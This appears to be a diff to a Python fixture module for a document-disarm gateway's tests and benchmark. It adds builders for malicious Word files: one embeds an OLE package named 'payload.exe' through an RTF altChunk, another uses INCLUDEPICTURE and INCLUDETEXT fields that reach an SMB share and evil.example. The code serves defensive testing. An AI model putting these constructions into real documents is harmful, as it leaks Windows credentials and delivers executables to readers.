@@ -3,6 +3,7 @@ the classes of attack gateway/disarm must take out, and clean documents it
 must leave alone.  Shared by tests/test_disarm.py and bench/disarm.py."""
 from __future__ import annotations
 
+import binascii
 import io
 import os
 import struct
@@ -300,6 +301,39 @@ def xlsx_macro_sheet_renamed(by: str) -> bytes:
         "xl/workbook.xml": _DECL + wb,
         "xl/worksheets/sheet1.xml": _DECL + ws,
         "xl/worksheets/sheet2.xml": _DECL + macro,
+    })
+
+
+def docx_altchunk_rtf() -> bytes:
+    """A Word document that imports an RTF chunk (altChunk) holding an
+    embedded OLE package of a program: Word brings the object in on open."""
+    rtf = (b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}\\objw1\\objh1{\\*\\objdata "
+           + binascii.hexlify(ole10native("payload.exe", EXE)) + b"}}}")
+    return _package({
+        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN,
+                                      defaults='<Default Extension="rtf" ContentType="application/rtf"/>'),
+        "_rels/.rels": _ROOT_RELS,
+        "word/_rels/document.xml.rels": _rels(("rId5", "aFChunk", "afchunk.rtf", False)),
+        "word/document.xml": _document('<w:altChunk r:id="rId5"/>'),
+        "word/afchunk.rtf": rtf,
+    })
+
+
+def docx_remote_fields() -> bytes:
+    """A Word document whose fields fetch a picture from an SMB share (the
+    agent's Windows credentials go with the request) and text from the web;
+    a hyperlink field whose tooltip says "link" beside them is harmless."""
+    return _package({
+        "[Content_Types].xml": _types("word/document.xml", DOCX_MAIN),
+        "_rels/.rels": _ROOT_RELS,
+        "word/document.xml": _document(
+            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\198.51.100.7\\share\\a.png&quot; \\d ">'
+            '<w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>'
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT '
+            '&quot;http://evil.example/x.docx&quot; </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
+            '</w:r><w:r><w:t>text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+            '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://example.com/&quot; \\o &quot;link&quot; ">'
+            '<w:r><w:t>site</w:t></w:r></w:fldSimple></w:p>'),
     })
 
 
